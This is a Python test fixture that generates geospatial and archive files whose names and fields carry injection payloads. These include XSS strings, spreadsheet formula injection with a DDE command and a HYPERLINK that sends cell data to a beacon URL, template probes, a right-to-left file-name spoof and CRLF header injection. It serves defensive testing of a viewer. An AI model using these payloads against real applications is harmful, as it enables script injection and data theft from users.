"""Files whose words try to be more than words: in names, values, columns, layers, members and file names.

Each payload that is a script sets ``HIT`` in its window, each that fetches asks the beacon; whoever shows such a file
asks afterwards whether one did (``tests.browser.harmless``).
"""

from __future__ import annotations

import csv
import io
import json
from html import escape
from typing import Any, Final

from tests.ingest.made_files import BOWTIE, area, collection, js, kml, point, zipped

HIT: Final = "fronterasHit"
RUN: Final = f"window.{HIT}=(window.{HIT}||0)+1"
BEACON: Final = "http://127.0.0.1:9/beacon"  # the port of "discard"; a test that counts what is asked gives its own


def payloads(beacon: str = BEACON) -> tuple[str, ...]:
    """Return words that do something where they are not shown as words."""
    return (
        # Scripts, markup and event handlers, also out of an attribute, a title, a style or a comment
        f"<script>{RUN}</script>",
        f'<img src=x onerror="{RUN}">',
        f'"><svg onload={RUN}>',
        f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
        f"</title></style></textarea></script><script>{RUN}</script>",
        f"--><script>{RUN}</script><!--",
        f'<iframe srcdoc="<script>parent.{HIT}=1</script>"></iframe>',
        f"<a href=javascript:{RUN}>clic</a>",
        f"<details open ontoggle={RUN}>",
        f'<link rel=stylesheet href="{beacon}.css"><img src="{beacon}.png">',
        f"javascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"`);{RUN};//${{{RUN}}}",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        # Cells that a spreadsheet computes
        f'=HYPERLINK("{beacon}?"&A1,"ver")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        # Markdown, LaTeX and directives of Streamlit
        f"[clic](javascript:{RUN})",
        f"![foto]({beacon}.md.png)",
        f"<{beacon}.auto>",
        "# Título **negrita** _cursiva_ `código` ~~no~~",
        "$\\frac{1}{2}$ y $$\\sum x$$",
        ":red[rojo] :material/delete: :smile: :small[x] :blue-background[y]",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        # Templates and formats
        "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %>",
        "{n} {0} {layer.__class__} %(x)s %s",
        # Signs that turn the direction of writing, and ends of lines
        "informe\u202eslx.exe\u202c",
        "una\r\nSet-Cookie: x=1\r\n\r\n<p>",
        "nulo\x00 y campana\x07 y escape\x1b[31m",
    )


def files(beacon: str = BEACON) -> dict[str, bytes]:
    """Return the corpus: a name for each file, which is a payload as well, and what is in it.

    All but the last two hold something that can be stored, and something that the report has to name.
    """
    words = payloads(beacon)
    picture = f"<img src=x onerror={RUN}>"
    return {
        f"{picture}.geojson": _geojson(words),
        "=1+1 $x$ :red[y] {{7*7}}.csv": _csv(words),
        f"[clic](javascript:{RUN}).kml": _kml(words),
        f"'-{RUN}-'.zip": _archive(words),
        f"<svg onload={RUN}>.geojson": _geojson(words)[:-30],
        f"<script>{RUN}<%2Fscript>.zip": zipped({f"{word[:40]}.txt".replace("/", "∕"): b"\x01" for word in words[:6]}),
    }


def _geojson(words: tuple[str, ...]) -> bytes:
    """Return a layer whose name, columns and values are payloads; one shape is broken, one missing, one id twice."""
    shapes: list[Any] = [area(BOWTIE), None, *(point(-70 - n / 10, -4 - n / 10) for n in range(len(words)))]
    told = collection(*shapes, name=words[0])
    for number, feature in enumerate(told["features"]):
        word = words[number % len(words)]
        feature["properties"] = {"id": word, "nombre": word, words[1]: word, words[16]: number, f"{word[:20]}": 1}
    told["features"][-1]["properties"]["id"] = words[0]
    return js(told).replace(b'"nombre": ', f'{json.dumps(words[1])}: 1, "nombre": '.encode(), 1)  # the same key twice


def _csv(words: tuple[str, ...]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    writer.writerow(["latitud", "longitud", "nombre", words[1], words[15], words[24], words[1]])
    for number, word in enumerate(words):
        clean = word.replace("\0", "")
        writer.writerow([-4 - number / 10, -70 - number / 10, clean, clean, clean, clean, number])
    writer.writerow(["norte", "-70", words[0], words[1], "", "", ""])
    return out.getvalue().encode()


def _kml(words: tuple[str, ...]) -> bytes:
    def xml(word: str) -> str:
        return escape("".join(sign if sign.isprintable() or sign in "\t\n" else " " for sign in word))

    marks = "".join(
        f"<Placemark><name>{xml(word)}</name><description><![CDATA[{word.replace(']]>', '')}]]></description>"
        f"<Point><coordinates>{-70 - number / 10},-4</coordinates></Point></Placemark>"
        for number, word in enumerate(words)
        if word.isprintable()
    )
    link = f"<NetworkLink><Link><href>{xml(words[9])}</href></Link></NetworkLink>"
    folders = "".join(f"<Folder><name>{xml(word)}</name>{marks}</Folder>" for word in (words[0], words[25]))
    return kml(link + folders).encode()


def _archive(words: tuple[str, ...]) -> bytes:
    """Return an archive whose layers and left-out members are called as payloads."""
    sound = js(collection(point(), point(-71), properties={"nombre": words[0]}))
    named = [word.replace("/", "∕").replace(":", "∶")[:60] for word in (words[1], words[15], words[22], words[26])]
    return zipped({**{f"{name}.geojson": sound for name in named}, f"{words[2][:40]}.gz": b"\x1f\x8b\x08" + bytes(40)})
